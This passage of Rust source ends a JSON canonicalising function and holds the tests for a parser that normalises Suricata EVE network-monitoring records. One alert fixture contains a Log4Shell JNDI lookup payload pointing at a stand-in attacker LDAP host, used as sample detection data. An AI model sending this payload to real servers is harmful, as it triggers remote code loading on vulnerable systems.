                                write_scalar(&v, &mut values)?;
                                if let Scalar::Str(s) = v {
                                    picked = Some(s);
                                }
                            } else {
                                canon(r, depth + 1, &mut values, "")?;
                            }
                        } else {
                            canon(r, depth + 1, &mut values, "")?;
                        }
                        members.push((k, at..values.len()));
                        if !r.more(b'}')? {
                            break;
                        }
                    }
                }
                // Stable: among members with one key the last is kept.
                members.sort_by(|a, b| a.0.cmp(&b.0));
                out.push('{');
                let mut first = true;
                for (i, (k, range)) in members.iter().enumerate() {
                    if members.get(i + 1).is_some_and(|next| next.0 == *k) {
                        continue;
                    }
                    if !first {
                        out.push(',');
                    }
                    first = false;
                    write_scalar(&Scalar::Str(k.clone()), out)?;
                    out.push(':');
                    out.push_str(values.get(range.clone())?);
                }
                out.push('}');
                Some(picked)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use garrison_core::Timestamp;

    use super::*;

    fn p(line: &str) -> Parsed {
        parse(line, &Context::at(Timestamp::from_millis(0))).expect("parse")
    }

    #[test]
    fn alert_maps_rule_severity_and_cves() {
        let e = p(
            r#"{"timestamp":"2016-07-13T22:42:07.573103+0000","flow_id":2019294488109601,"event_type":"alert","src_ip":"82.165.177.154","src_port":80,"dest_ip":"10.16.1.11","dest_port":54186,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2100498,"rev":7,"signature":"ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"cve":["CVE_2021_44228","CVE_2021_45046"],"mitre_technique_id":["T1190"]}},"app_proto":"http"}"#,
        );
        assert_eq!(e.timestamp, Timestamp::parse("2016-07-13T22:42:07.573Z"));
        assert_eq!(e.severity, 80);
        assert_eq!(e.fields.get_str("rule.id"), Some("2100498"));
        assert_eq!(e.fields.get_str("rule.version"), Some("7"));
        assert_eq!(e.fields.get_str("event.kind"), Some("alert"));
        assert_eq!(e.fields.get_str("event.action"), Some("allowed"));
        assert_eq!(e.fields.get_str("network.transport"), Some("tcp"));
        assert_eq!(e.fields.get_str("network.protocol"), Some("http"));
        assert_eq!(
            e.fields.get("source.ip"),
            Some(&Value::Ip("82.165.177.154".parse().expect("ip")))
        );
        assert_eq!(e.fields.get("destination.port"), Some(&Value::Int(54186)));
        assert_eq!(
            e.fields.get("suricata.eve.flow_id"),
            Some(&Value::Int(2_019_294_488_109_601))
        );
        assert_eq!(
            e.fields.get("vulnerability.id"),
            Some(&Value::List(vec![
                "CVE-2021-44228".into(),
                "CVE-2021-45046".into()
            ]))
        );
        assert_eq!(
            e.fields.get("suricata.eve.alert.metadata.cve"),
            Some(&Value::List(vec![
                "CVE_2021_44228".into(),
                "CVE_2021_45046".into()
            ]))
        );
        assert_eq!(
            e.fields.get("threat.technique.id"),
            Some(&Value::List(vec!["T1190".into()]))
        );
    }

    #[test]
    fn alert_severity_scale() {
        for (s, want) in [(1, 80), (2, 60), (3, 40), (4, 20), (7, 20)] {
            let line = format!(r#"{{"event_type":"alert","alert":{{"severity":{s}}}}}"#);
            assert_eq!(p(&line).severity, want, "severity {s}");
        }
        assert_eq!(p(r#"{"event_type":"alert","alert":{}}"#).severity, 60);
        assert_eq!(p(r#"{"event_type":"flow"}"#).severity, 0);
    }

    #[test]
    fn dns_in_all_three_shapes() {
        let v1 = p(
            r#"{"event_type":"dns","dns":{"type":"query","id":1,"rrname":"google.com","rrtype":"A"}}"#,
        );
        assert_eq!(v1.fields.get_str("dns.question.name"), Some("google.com"));
        assert_eq!(v1.fields.get_str("dns.type"), Some("question"));
        let v2 = p(
            r#"{"event_type":"dns","dns":{"version":2,"type":"answer","id":1,"rrname":"x.org","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"x.org","rrtype":"A","rdata":"192.0.2.7"}],"grouped":{"A":["192.0.2.7","192.0.2.8"]}}}"#,
        );
        assert_eq!(v2.fields.get_str("dns.response_code"), Some("NOERROR"));
        assert_eq!(
            v2.fields.get("dns.resolved_ip"),
            Some(&Value::List(vec![
                Value::Ip("192.0.2.7".parse().expect("ip")),
                Value::Ip("192.0.2.8".parse().expect("ip"))
            ]))
        );
        let v3 = p(
            r#"{"event_type":"dns","dns":{"version":3,"type":"response","id":1,"rcode":"NXDOMAIN","queries":[{"rrname":"y.net","rrtype":"AAAA"}]}}"#,
        );
        assert_eq!(v3.fields.get_str("dns.question.name"), Some("y.net"));
        assert_eq!(v3.fields.get_str("dns.question.type"), Some("AAAA"));
        assert_eq!(
            v3.fields.get_str("suricata.eve.dns.rcode"),
            Some("NXDOMAIN")
        );
    }

    #[test]
    fn http_tls_fileinfo_flow() {
        let h = p(
            r#"{"event_type":"http","http":{"hostname":"www.testmyids.com","url":"/","http_user_agent":"curl/7.43.0","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":39}}"#,
        );
        assert_eq!(h.fields.get_str("url.domain"), Some("www.testmyids.com"));
        assert_eq!(
            h.fields.get("http.response.status_code"),
            Some(&Value::Int(200))
        );
        assert_eq!(h.fields.get_str("http.version"), Some("1.1"));
        let t = p(
            r#"{"event_type":"tls","tls":{"sni":"example.com","version":"TLS 1.3","ja3":{"hash":"abc","string":"x"},"ja3s":{"hash":"def"},"ja4":"t13d1516h2_8daaf6152771_e5627efa2ab1"}}"#,
        );
        assert_eq!(
            t.fields.get_str("tls.client.server_name"),
            Some("example.com")
        );
        assert_eq!(t.fields.get_str("tls.version"), Some("1.3"));
        assert_eq!(t.fields.get_str("tls.client.ja3"), Some("abc"));
        assert_eq!(t.fields.get_str("tls.server.ja3s"), Some("def"));
        assert!(t.fields.get_str("tls.client.ja4").is_some());
        let fi = p(
            r#"{"event_type":"fileinfo","fileinfo":{"filename":"a.exe","sha256":"00ff","size":3}}"#,
        );
        assert_eq!(fi.fields.get_str("file.hash.sha256"), Some("00ff"));
        assert_eq!(fi.fields.get("file.size"), Some(&Value::Int(3)));
        let fl = p(
            r#"{"event_type":"flow","flow":{"pkts_toserver":6,"pkts_toclient":4,"bytes_toserver":425,"bytes_toclient":495,"start":"2016-07-13T22:42:07.011401+0000"}}"#,
        );
        assert_eq!(fl.fields.get("network.bytes"), Some(&Value::Int(920)));
        assert_eq!(fl.fields.get("destination.packets"), Some(&Value::Int(4)));
    }

    #[test]
    fn not_eve_is_an_error_in_words() {
        let ctx = Context::at(Timestamp::from_millis(0));
        let e = parse(r#"{"a":1}"#, &ctx).expect_err("no event_type");
        assert!(e.reason.contains("event_type"), "{e}");
        let e = parse("{", &ctx).expect_err("broken");
        assert!(e.to_string().starts_with("suricata: "), "{e}");
    }

    #[test]
    fn odd_keys_never_give_a_name_twice() {
        for line in [
            r#"{"event_type":"dns","dns.rrname":"a.org","dns":{"rrname":"b.org"}}"#,
            r#"{"dns":{"rrname":"b.org"},"event_type":"dns","dns.rrname":"a.org"}"#,
            r#"{"event_type":"dns","dns":{"rrname":"a.org"},"dns":{"rrname":"b.org"}}"#,
            r#"{"event_type":"x","":{"a":1},"a":2,"b":{"c.d":1,"c":{"d":2}}}"#,
            r#"{"event_type":"alert","event_type":"dns","sr\u0063_ip":"10.0.0.1"}"#,
        ] {
            let e = p(line);
            let mut names: Vec<&str> = e.fields.iter().map(|(n, _)| n).collect();
            let n = names.len();
            names.sort_unstable();
            names.dedup();
            assert_eq!(names.len(), n, "{line}: {:?}", e.fields);
        }
        let e = p(r#"{"event_type":"dns","dns":{"rrname":"a.org"},"dns":{"rrname":"b.org"}}"#);
        assert_eq!(e.fields.get_str("dns.question.name"), Some("b.org"));
        let e = p(r#"{"event_type":"alert","event_type":"dns","sr\u0063_ip":"10.0.0.1"}"#);
        assert_eq!(e.fields.get_str("suricata.eve.event_type"), Some("dns"));
        assert!(e.fields.get("source.ip").is_some(), "escaped keys are read");
    }

    /// The event with its fields in name order, to compare the readers.
    fn by_name(p: Parsed) -> (Option<Timestamp>, u8, Vec<(String, Value)>) {
        let mut fields: Vec<(String, Value)> = p
            .fields
            .iter()
            .map(|(n, v)| (n.to_owned(), v.clone()))
            .collect();
        fields.sort_by(|a, b| a.0.cmp(&b.0));
        (p.timestamp, p.severity, fields)
    }

    /// The fast reader gives what the general reader gives, field order
    /// aside, for every record it takes; says whether it took it.
    fn same_as_general(line: &str) -> bool {
        let general = parse_general(line);
        match fast::parse(line) {
            Some(got) => {
                let want = general.unwrap_or_else(|e| panic!("{line}: fast read, general {e}"));
                let names = got.fields.len();
                let got = by_name(got);
                let mut dedup: Vec<&String> = got.2.iter().map(|(n, _)| n).collect();
                dedup.dedup();
                assert_eq!(dedup.len(), names, "{line}: a name twice");
                assert_eq!(got, by_name(want), "{line}");
                true
            }
            None => false,
        }
    }

    const LINES: &[&str] = &[
        r#"{"timestamp":"2024-03-14T09:26:53.589793+0000","flow_id":1245631827309123,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.77","src_port":44321,"dest_ip":"10.20.30.40","dest_port":8080,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:Qa82cl2bHpIRvy6bCKNJ8m5uFHc=","tx_id":0,"alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":3,"signature":"ET EXPLOIT Apache log4j RCE Attempt - lower/upper TCP Bypass (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"affected_product":["Apache_log4j"],"attack_target":["Server"],"created_at":["2021_12_10"],"cve":["CVE_2021_44228"],"deployment":["Perimeter","Internal"],"signature_severity":["Major"],"updated_at":["2021_12_14"]}},"http":{"hostname":"10.20.30.40","http_port":8080,"url":"/?x=${jndi:ldap://203.0.113.77:1389/a}","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","http_content_type":"text/html","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":612},"app_proto":"http","direction":"to_server","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":622,"bytes_toclient":1104,"start":"2024-03-14T09:26:53.512001+0000","src_ip":"203.0.113.77","dest_ip":"10.20.30.40","src_port":44321,"dest_port":8080}}"#,
        r#"{"timestamp":"2024-03-14T09:26:54.001234+0000","flow_id":1835273662719283,"in_iface":"eth0","event_type":"dns","src_ip":"10.20.30.41","src_port":53412,"dest_ip":"10.20.0.2","dest_port":53,"proto":"UDP","dns":{"version":2,"type":"answer","id":48211,"flags":"8180","qr":true,"rrname":"updates.example.com","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"updates.example.com","rrtype":"CNAME","ttl":300,"rdata":"cdn.example.net"},{"rrname":"cdn.example.net","rrtype":"A","ttl":60,"rdata":"198.51.100.23"}],"grouped":{"A":["198.51.100.23"],"AAAA":["2001:db8::1"],"CNAME":["cdn.example.net"]}}}"#,
        r#"{"event_type":"dns","dns":{"version":3,"type":"response","id":"7","rdata":"192.0.2.1","rcode":"NXDOMAIN","rrname":"ignored.org","queries":[{"rrname":"y.net","rrtype":"AAAA"},{"rrname":"z"}]}}"#,
        r#"{"event_type":"dns","dns":{"queries":[5,{"rrname":"y.net"}],"rrname":"x.org","rrtype":28}}"#,
        r#"{"event_type":"tls","tls":{"subject":"CN=*.google.com","issuerdn":"C=US","serial":"0A:1B","fingerprint":"3f:6a:1e:4b:9c:88:12:aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66","sni":" www.google.com ","version":"TLSv1.2","notbefore":"2024-02-19T08:04:45","ja3":{"hash":"cd08","string":"771"},"ja3s":{"hash":"eb1d"},"ja4":{"hash":"t13d"}}}"#,
        r#"{"event_type":"flow","flow_id":18446744073709551615,"parent_id":1.5,"app_proto":"failed","proto":17,"src_ip":"not an ip","dest_ip":["10.0.0.1"],"src_port":"80","dest_port":{"a":1},"community_id":12,"in_iface":"-","flow":{"pkts_toserver":6,"pkts_toclient":4.0,"bytes_toserver":"425","bytes_toclient":495,"start":"s","end":"e","big":18446744073709551615,"neg":-3,"f":1e300}}"#,
        r#"{"event_type":"netflow","netflow":{"bytes":7,"pkts":2,"start":"ns","end":"ne"},"flow":5}"#,
        r#"{"event_type":"alert","alert":{"signature":"cve-2020-1234 and CVE_2019_0001","signature_id":"x","rev":1.5,"category":true,"action":"blocked","severity":"3","metadata":{"CVE":["CVE-2018-1111"],"cve_extra":"CVE-2017-2222","cve":[{"a":"CVE-2016-3333"},"CVE-2015-4444",null],"MITRE_TECHNIQUE_ID":["T1"],"mitre_technique_id":["T2"],"mitre_tactic_name":"Initial Access","mitre_tactic_id":5}}}"#,
        r#"{"event_type":"smtp","smtp":{"mail_from":"<a@b.org>","rcpt_to":["<c@d.org>",3,"e@f.org"]},"email":{"subject":"hi","message_id":"<m>","attachment":["a.exe",null,{"n":1},[1]]}}"#,
        r#"{"event_type":"smtp","smtp":{"rcpt_to":"<c@d.org>"},"ssh":{"client":{"software_version":"OpenSSH","hassh":{"hash":"h1"}},"server":{"hassh":{"hash":"h2"}}}}"#,
        r#"{"event_type":"  anomaly ","timestamp":"not a time","anomaly":{"type":"decode","event":"x\u0041y"},"sr\u0063_ip":"10.0.0.1","a":{},"b":[],"c":null,"d":{"e":{"f":{"g":[{"z":1,"a":2}]}}}}"#,
        r#"{"event_type":"http","http":{"hostname":"h","url":"/\"q\"","http_method":"GET","status":"200","protocol":"HTTP/2","length":-1,"http_refer":"-"}}"#,
        r#"{"event_type":"fileinfo","fileinfo":{"filename":"a.exe","md5":"m","sha1":"s1","sha256":"00ff","size":3,"mimetype":"x/y"}}"#,
        r#"{"event_type":"stats","stats":{"uptime":1,"decoder":{"pkts":2}}}"#,
        // Objects in arrays are kept as serde_json writes them back:
        // members sorted, the last of a repeated key, escapes rewritten.
        r#"{"event_type":"dns","dns":{"answers":[{"rdata":"10.0.0.1","rrname":"a\u0041\/","rdata":"10.0.0.2","x":1.5,"y":[{"b":null,"a":true},[]],"z":-0,"e":1e2,"w":"tab\t\u001f","big":18446744073709551616,"n":-7},5,{"rdata":7},{"rdata":"2001:db8::1"},{}]},"o":[{"k\"q":"v","k":"\u00e9\u2028\ud83d\ude00","":{"z":{},"a":[1,{"c":2,"b":3}]}}]}"#,
    ];

    #[test]
    fn fast_reader_matches_general_reader() {
        for line in LINES {
            assert!(same_as_general(line), "the fast reader should take {line}");
        }
        // Left to the general reader: repeated, dotted or empty keys, an
        // odd or missing event_type, what is not an object.
        for line in [
            r#"{"event_type":"dns","dns.rrname":"a.org","dns":{"rrname":"b.org"}}"#,
            r#"{"event_type":"dns","dns":{"rrname":"a.org"},"dns":{"rrname":"b.org"}}"#,
            r#"{"event_type":"dns","dns":{"rrname":"a.org","rrname":null}}"#,
            r#"{"event_type":"x","":{"a":1},"a":2}"#,
            r#"{"event_type":"netflow","netflow":{"bytes":7},"flow":{"bytes_toserver":1}}"#,
            r#"{"event_type":"alert","event_type":"dns"}"#,
            r#"{"event_type":" "}"#,
            r#"{"event_type":{"a":1}}"#,
            r#"{"a":1}"#,
            r#"{"event_type":"x"} x"#,
            "[1]",
            "",
        ] {
            assert!(!same_as_general(line), "{line}");
        }
    }

    #[test]
    fn fast_reader_matches_general_reader_on_the_corpus() {
        let root = std::env::var_os("GARRISON_CORPUS").map_or_else(
            || {
                std::path::PathBuf::from(concat!(
                    env!("CARGO_MANIFEST_DIR"),
                    "/../../../shared/corpus"
                ))
            },
            std::path::PathBuf::from,
        );
        let mut dirs: Vec<std::path::PathBuf> = ["events", "public/events", "holdout/events"]
            .iter()
            .map(|d| root.join(d).join("suricata"))
            .collect();
        let (mut taken, mut total) = (0usize, 0usize);
        while let Some(dir) = dirs.pop() {
            let Ok(rd) = std::fs::read_dir(&dir) else {
                continue;
            };
            for e in rd.flatten() {
                let path = e.path();
                if path.is_dir() {
                    dirs.push(path);
                } else if path.extension().is_some_and(|x| x == "json") {
                    let text = std::fs::read_to_string(&path).unwrap_or_default();
                    for line in text.lines().filter(|l| !l.trim().is_empty()) {
                        total += 1;
                        taken += usize::from(same_as_general(line));
                    }
                }
            }
        }
        eprintln!("fast reader: {taken} of {total} corpus lines");
    }

    mod differential {
        use proptest::prelude::*;
        use serde_json::{Map, Value as Json};

        fn key() -> impl Strategy<Value = String> {
            prop_oneof![
                prop::sample::select(vec![
                    "timestamp",
                    "src_ip",
                    "dest_ip",
                    "src_port",
                    "dest_port",
                    "proto",
                    "app_proto",
                    "community_id",
                    "in_iface",
                    "flow_id",
                    "parent_id",
                    "alert",
                    "signature",
                    "signature_id",
                    "rev",
                    "category",
                    "action",
                    "severity",
                    "metadata",
                    "cve",
                    "CVE",
                    "cve_x",
                    "mitre_technique_id",
                    "mitre_tactic_name",
                    "dns",
                    "rrname",
                    "rrtype",
                    "rcode",
                    "id",
                    "type",
                    "rdata",
                    "queries",
                    "answers",
                    "grouped",
                    "A",
                    "AAAA",
                    "http",
                    "hostname",
                    "url",
                    "status",
                    "protocol",
                    "length",
                    "tls",
                    "sni",
                    "version",
                    "ja3",
                    "ja3s",
                    "ja4",
                    "hash",
                    "fingerprint",
                    "fileinfo",
                    "size",
                    "sha256",
                    "flow",
                    "bytes_toserver",
                    "bytes_toclient",
                    "pkts_toserver",
                    "pkts_toclient",
                    "start",
                    "end",
                    "netflow",
                    "bytes",
                    "pkts",
                    "ssh",
                    "client",
                    "server",
                    "hassh",
                    "software_version",
                    "smtp",
                    "mail_from",
                    "rcpt_to",
                    "email",
                    "subject",
                    "attachment",
                    "a.b",
                    "",
                ])
                .prop_map(str::to_owned),
                "[a-z]{1,3}",
            ]
        }

        fn json() -> impl Strategy<Value = Json> {
            let leaf = prop_oneof![
                Just(Json::Null),
                any::<bool>().prop_map(Json::Bool),
                any::<i64>().prop_map(Json::from),
                any::<u64>().prop_map(Json::from),
                (-1.0e20..1.0e20f64).prop_map(Json::from),
                Just(Json::from(4.0)),
                "[ -~]{0,6}".prop_map(Json::String),
                prop::sample::select(vec![
                    "10.0.0.1",
                    "::1",
                    " 10.0.0.2",
                    "2016-07-13T22:42:07.573103+0000",
                    "CVE-2021-44228",
                    "cve_2019_1234",
                    "<a@b>",
                    "-",
                    " ",
                    "TLSv1.2",
                    "SSL 3",
                    "HTTP/1.0",
                    "query",
                    "drop",
                    "\"q\"\n",
                    "aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd",
                ])
                .prop_map(|s| Json::String(s.to_owned())),
            ];
            leaf.prop_recursive(4, 40, 6, |inner| {
                prop_oneof![
                    prop::collection::vec(inner.clone(), 0..4).prop_map(Json::Array),
                    prop::collection::vec((key(), inner), 0..6)
                        .prop_map(|kv| Json::Object(kv.into_iter().collect::<Map<_, _>>())),
                ]
            })
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(1024))]

            #[test]
            fn both_readers_agree(
                obj in prop::collection::vec((key(), json()), 0..10),
                event_type in prop::sample::select(vec!["alert", "dns", "flow", "netflow", "anomaly", "stats", "x"]),
                at in any::<prop::sample::Index>(),
            ) {
                // Written by hand so that repeated keys stay in the line.
                let mut parts: Vec<String> = obj
                    .iter()
                    .map(|(k, v)| format!("{}:{v}", Json::String(k.clone())))
                    .collect();
                let i = at.index(parts.len() + 1);
                parts.insert(i, format!("\"event_type\":\"{event_type}\""));
                let line = format!("{{{}}}", parts.join(","));
                super::same_as_general(&line);
            }
        }
    }

    #[test]
    fn huge_flow_ids_keep_their_digits() {
        let e = p(r#"{"event_type":"flow","flow_id":18446744073709551615}"#);
        assert_eq!(
            e.fields.get_str("suricata.eve.flow_id"),
            Some("18446744073709551615")
        );
    }
}
